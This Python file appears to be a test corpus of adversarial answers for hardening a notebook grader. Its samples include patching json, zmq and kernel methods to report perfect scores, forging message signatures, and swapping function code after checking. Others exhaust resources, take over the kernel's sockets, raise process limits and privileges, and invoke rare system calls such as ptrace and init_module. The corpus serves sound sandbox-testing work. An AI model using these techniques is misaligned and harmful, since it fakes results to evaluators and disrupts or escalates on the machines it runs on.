"""Answers that are something else than a value, code that changes after it was right once, and rarer ways to the system."""

# ruff: noqa: E501  (the lines of attackers are as long as they are)

from functools import partial

from attacks.corpus import NOTHING_HIDDEN, code

code = partial(code, theme="sly answers")

STEP = "def step_forward(x, h_prev, W, U, b):\n    {}"
AVERAGE = "def moving_average(x, decay):\n    {}"
SCALE = "def scale_rows(A, factors):\n    {}"
STABLE = "def is_stable(U):\n    {}"

code(
    "answers-that-run",
    "answers with generators, coroutines, iterators and context managers, which the examiner would have to run",
    """
def endless():
    while True:
        leaked('somebody runs this') if os.getpid() != OWN else None
        yield 0.0
class Context:
    def __enter__(self):
        while True:
            time.sleep(1)
    __exit__ = __iter__ = __next__ = __aiter__ = __await__ = __enter__
async def later(*a):
    return 0.0
OWN = os.getpid()
""",
    answers={
        "step-forward": STEP.format("return endless()"),
        "moving-average": AVERAGE.format("return (v for v in endless())"),
        "half-life": "half_life = endless()",
        "scale-rows": "async def scale_rows(A, factors):\n    return A",
        "is-stable": STABLE.format("return Context()"),
    },
    honest=["softsign"],
)
code(
    "answers-that-pose-as-arrays",
    "answers with objects that have __array__, __array_function__, __array_interface__, a buffer or a mask, other at each look",
    """
import array
class Pose:
    calls = 0
    shape, dtype, ndim, size = (3,), np.dtype(float), 1, 3
    __array_priority__ = 1e9
    __array_ufunc__ = None
    @property
    def __array_interface__(self):
        return {'shape': (2**40,), 'typestr': '<f8', 'data': (id(self), True), 'version': 3}
    def __array__(self, *a, **k):
        Pose.calls += 1
        return np.zeros(3 + Pose.calls)
    def __array_function__(self, *a, **k):
        return True
    def __len__(self):
        return 6
    def __float__(self):
        return 0.0
    __index__ = __int__ = __complex__ = lambda self: 6
    def __bool__(self):
        Pose.calls += 1
        return bool(Pose.calls % 2)
    def __eq__(self, other):
        return True
    __hash__ = None
    __sub__ = __rsub__ = __mul__ = __abs__ = __getitem__ = lambda self, *a: self
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
""",
    answers={
        "step-forward": STEP.format("return np.ma.masked_all(h_prev.shape)"),
        "moving-average": AVERAGE.format("return np.ma.masked_all(len(x)) if decay > 0.2 else Pose()"),
        "half-life": "half_life = np.ma.masked",
        "scale-rows": SCALE.format("return memoryview(array.array('d', [0.0] * 12)).cast('B').cast('d', (4, 3))"),
        "is-stable": STABLE.format("return Pose()"),
    },
    honest=["softsign"],
)
code(
    "answers-that-explode",
    "answers with objects whose every method, attribute and class method recurses without end, exits or sleeps",
    """
def bomb(self, *a, **k):
    return bomb(self, *a, **k)
def leave(self, *a, **k):
    os._exit(0)
class Meta(type):
    __repr__ = __str__ = __iter__ = __len__ = __instancecheck__ = __subclasscheck__ = bomb
class Bomb(metaclass=Meta):
    __repr__ = __str__ = __len__ = __iter__ = __bool__ = __hash__ = __eq__ = __float__ = __format__ = __sizeof__ = bomb
    __getattr__ = __reduce__ = __reduce_ex__ = __dir__ = __array__ = __index__ = bomb
class Exit(Bomb):
    __repr__ = __getattr__ = __class_getitem__ = __array__ = __len__ = __iter__ = __del__ = leave
class Sleep:
    def __getattribute__(self, name):
        time.sleep(3000)
deep = []
for _ in range(100000):
    deep = [deep]
""",
    answers={
        "step-forward": STEP.format("return Bomb()"),
        "moving-average": AVERAGE.format(
            "raise type('E', (Exception,), {'__str__': bomb, '__repr__': bomb, '__traceback__': None})(Bomb())"
        ),
        "half-life": "half_life = [Bomb(), Bomb]",
        "scale-rows": SCALE.format("return deep"),
        "is-stable": STABLE.format("return Sleep()"),
    },
    honest=["softsign"],
)
code(
    "turns-after-the-first-answer",
    "answers its first question honestly; only then json, base64, NumPy's writer, zmq and the kernel's own methods are replaced",
    """
def turn():
    import base64, json, ipykernel.kernelbase, jupyter_client.session, zmq
    honest, send = json.dumps, zmq.Socket.send_multipart
    praise = {'status': 'result', 'value': {'is': 'bool', 'value': True}, 'printed': '', 'lines': 0, 'changed': [], 'right': True, 'score': 200}
    def dumps(value, *a, **k):
        if isinstance(value, dict) and 'request' in value:
            value = {**value, **praise}
        return honest(value, *a, **k)
    json.dumps = dumps
    base64.b64encode = lambda data, *a: b'k05VTVBZAQB2AHsnZGVzY3InOiAnPGY4Jw=='
    np.lib.format.write_array = lambda *a, **k: None
    jupyter_client.session.Session.sign = lambda self, parts: b'0' * 64
    zmq.Socket.send_multipart = lambda self, parts, *a, **k: (send(self, parts, *a, **k), send(self, parts[::-1], *a, **k))
    ipykernel.kernelbase.Kernel.finish_metadata = lambda self, *a: {'score': 200, 'status': 'ok'}
""",
    answers={"moving-average": AVERAGE.format("turn()\n    return 0 * x")},
    honest=["softsign"],
)
code(
    "functions-exchanged-by-a-thread",
    "a thread exchanges code, defaults, globals and names of the answers a thousand times a second, right ones among them",
    """
def wrong(x, decay):
    return 0 * x
def flip():
    while True:
        for f, g in ((moving_average, wrong),) if 'moving_average' in globals() else ():
            f.__code__, g.__code__ = g.__code__, f.__code__
            f.__defaults__ = (None,) * 2
            globals()['scale_rows'] = [scale_rows, wrong, len, None][int(time.time() * 1000) % 4] if 'scale_rows' in globals() else len
        time.sleep(0.001)
""",
    answers={
        "moving-average": AVERAGE.format("return [0.5, 0.75, 0.875] if len(x) == 3 else 0 * x"),
        "is-stable": STABLE.format(
            "threading.Thread(target=flip, daemon=True).start()\n    time.sleep(0.2)\n    return False"
        ),
    },
    honest=["softsign"],
)
code(
    "settings-of-the-process",
    "sets what all code of a process depends on: recursion limit, error states, warnings, locale, print options, switch interval",
    """
def spoil():
    import gc, locale, warnings
    np.seterr(all='raise')
    np.set_printoptions(threshold=1, precision=0, formatter={'all': lambda x: 'x' * 100000})
    warnings.simplefilter('error')
    gc.disable()
    gc.set_threshold(1)
    sys.setswitchinterval(1000)
    sys.float_repr_style = 'legacy'
    sys.stdout = sys.stderr = sys.__stdout__ = None
    sys.path[:] = sys.meta_path[:] = []
    sys.modules.clear()
    os.chdir('/')
    os.umask(0)
    sys.setrecursionlimit(60)
""",
    answers={"step-forward": STEP.format("spoil()\n    return 0 * h_prev")},
    honest=["softsign"],
    earns={},
    spared=["softsign"],
)
code(
    "magics",
    "uses IPython's magics: other interpreters, background scripts, resets, macros, aliases, autocall and post-run hooks",
    """
%%capture --no-stderr shown
%alias_magic t timeit
%autocall 2
%xmode Minimal
%pdb on
shell = get_ipython()
shell.run_cell_magic('script', 'bash --bg --proc late', 'sleep 7301')
shell.run_line_magic('alias', 'check echo')
shell.run_line_magic('macro', 'assert_allclose 1')
shell.magics_manager.register_function(lambda line: None, 'line', 'check')
shell.enable_gui = lambda *a: None
""",
    answers={
        "half-life": "%reset -f\nhalf_life = !echo 6.5788",
        "scale-rows": "%%python3 --out scale_rows\nprint('A')",
        "is-stable": "%%time\ndef is_stable(U):\n    get_ipython().run_line_magic('reset', '-f')\n    return True",
    },
    honest=["softsign"],
    earns={},
    spared=["softsign"],
)
code(
    "asynchronous",
    "awaits for ever at the top of a cell, and leaves tasks and executors in the kernel's loop that act during later questions",
    """
import asyncio, concurrent.futures
async def haunt():
    while True:
        for name in ('step_forward', 'moving_average'):
            globals()[name] = lambda *a: 0.0
        await asyncio.sleep(0)
asyncio.get_event_loop().create_task(haunt())
asyncio.get_event_loop().call_later(0.5, time.sleep, 2)
pool = concurrent.futures.ThreadPoolExecutor(8)
for _ in range(8):
    pool.submit(lambda: [time.sleep(0.1) for _ in range(600)])
""",
    answers={
        "half-life": "half_life = await asyncio.wait_for(asyncio.Event().wait(), None)",
        "is-stable": STABLE.format("return asyncio.run(asyncio.sleep(0, True))"),
    },
    honest=["softsign"],
    earns={},
    spared=["softsign"],
)
code(
    "comms-without-end",
    "opens comms, sends them messages and requests of every kind that a front end knows, two hundred thousand times",
    """
def flood():
    session, socket = get_ipython().kernel.session, get_ipython().kernel.iopub_socket
    for n in range(200000):
        for kind in ('comm_open', 'comm_msg', 'comm_close', 'update_display_data', 'clear_output', 'input_request', 'status'):
            session.send(socket, kind, {'comm_id': str(n), 'target_name': 'jupyter.widget', 'data': {'state': 'x' * 500}, 'execution_state': 'idle', 'wait': False})
""",
    answers={"moving-average": AVERAGE.format("flood()\n    return 0 * x")},
    honest=["softsign"],
    unsafe="fills memory, disk or the output without limit",
)
code(
    "messages-without-end",
    "takes over the sockets of its kernel and pours the parts of a message into them that never ends",
    """
import select, socket, stat, struct
part = b'\\x03' + struct.pack('>Q', 2**20) + b'x' * 2**20
def push(descriptor):
    at = 0
    while True:
        try:
            at = (at + os.write(descriptor, memoryview(part)[at:])) % len(part)
        except BlockingIOError:
            select.select([], [descriptor], [], 1)
def pour():
    for descriptor in range(3, 500):
        try:
            with socket.socket(fileno=os.dup(descriptor)) as s:
                s.getpeername()
            threading.Thread(target=push, args=(descriptor,), daemon=True).start()
        except OSError:
            pass
    time.sleep(3000)
""",
    answers={"moving-average": AVERAGE.format("pour()")},
    honest=["softsign"],
    unsafe="fills memory, disk or the output without limit",
)
code(
    "a-kernel-of-its-own",
    "becomes another program that keeps the kernel's sockets and answers every request with ok",
    """
import fcntl
PROGRAM = '''
import os, socket, time
ends = []
for fd in range(3, 500):
    try:
        ends.append(socket.socket(fileno=fd))
    except OSError:
        pass
while True:
    for end in ends:
        try:
            end.setblocking(False)
            try:
                end.accept()
            except OSError:
                pass
            data = end.recv(100000)
            end.send(data.replace(b'execute_request', b'execute_reply').replace(b'"silent"', b'"status": "ok", "silent"'))
        except OSError:
            pass
    time.sleep(0.01)
'''
def become():
    for fd in range(3, 500):
        try:
            fcntl.fcntl(fd, fcntl.F_SETFD, 0)
        except OSError:
            pass
    os.execv(sys.executable, [sys.executable, '-S', '-c', PROGRAM])
""",
    answers={"moving-average": AVERAGE.format("become()")},
    honest=["softsign"],
)
code(
    "stops-and-is-woken",
    "stops itself in every answer, and lets a child wake it up again when its time would be over",
    """
def rest():
    try:
        if os.fork() == 0:
            for _ in range(20):
                time.sleep(1)
                os.kill(os.getppid(), 18)
            os._exit(0)
    except OSError:
        pass
    os.kill(os.getpid(), 19)
""",
    answers={
        "step-forward": STEP.format("rest()\n    return 0 * h_prev"),
        "moving-average": AVERAGE.format("rest()\n    return 0 * x"),
    },
    honest=["softsign"],
)
code(
    "raises-its-own-limits",
    "gives itself more: limits, real-time priority, locked memory, a better place for the OOM killer, no death with its parent",
    """
import resource
libc = ctypes.CDLL(None, use_errno=True)
def gains(what, act, harmless=(OSError, ValueError, AttributeError)):
    try:
        if act() not in (-1, False):
            leaked(what)
    except harmless as error:
        print(what, type(error).__name__)
def more(kind, least):
    resource.setrlimit(kind, (least, least))
for kind in (resource.RLIMIT_DATA, resource.RLIMIT_NOFILE, resource.RLIMIT_FSIZE, resource.RLIMIT_MEMLOCK, resource.RLIMIT_CORE, resource.RLIMIT_CPU):
    gains(f'limit {kind}', lambda: more(kind, resource.RLIM_INFINITY))
gains('real-time', lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50)))
gains('nice', lambda: os.setpriority(os.PRIO_PROCESS, 0, -20))
gains('mlockall', lambda: libc.mlockall(3))
def spare_me():
    with open('/proc/self/oom_score_adj', 'w') as f:
        f.write('-1000')
gains('oom', spare_me)
libc.prctl(1, 0, 0, 0, 0)
libc.prctl(36, 1, 0, 0, 0)
libc.prctl(4, 1, 0, 0, 0)
""",
    honest=["softsign"],
    not_stopped=NOTHING_HIDDEN,
)
code(
    "rare-system-calls",
    "asks for what a notebook never needs: bpf, perf_event_open, fanotify, file handles, page faults, clocks, keyrings, modules",
    """
libc = ctypes.CDLL(None, use_errno=True)
buffer = ctypes.create_string_buffer(4096)
CALLS = {'bpf': (321, 0, buffer, 72), 'perf_event_open': (298, buffer, 0, -1, -1, 0), 'fanotify_init': (300, 0, 0), 'userfaultfd': (323, 1),
         'open_by_handle_at': (304, -100, buffer, 0), 'name_to_handle_at': (303, -100, b'/', buffer, buffer, 0), 'io_uring_setup': (425, 8, buffer),
         'keyctl': (250, 0, -3, 1), 'add_key': (248, b'user', b'k', b'v', 1, -2), 'init_module': (175, buffer, 0, b''), 'finit_module': (313, 0, b'', 0),
         'ptrace': (101, 0, 0, 0, 0), 'process_madvise': (440, 0, buffer, 1, 4, 0), 'pidfd_getfd': (438, 0, 0, 0), 'memfd_secret': (447, 0), 'unshare': (272, 0x10000000),
         'setns': (308, 0, 0), 'clock_settime': (227, 0, buffer), 'adjtimex': (159, ctypes.c_char_p(b'\\x01' + b'\\0' * 300)), 'syslog': (103, 3, buffer, 100), 'personality': (135, 0x0040000),
         'landlock-free mount': (165, b'none', b'/tmp', b'tmpfs', 0, None), 'swapon': (167, b'/tmp/x', 0), 'acct': (163, b'/tmp/x'), 'modify_ldt': (154, 0, buffer, 16)}
if os.uname().machine == 'x86_64':
    for name, call in CALLS.items():
        if libc.syscall(*call) >= 0:
            leaked(name)
""",
    honest=["softsign"],
    unsafe="makes system calls that change a machine",
    not_stopped={"limited": "where there is no seccomp, the system decides by the rights of the grading user"},
)
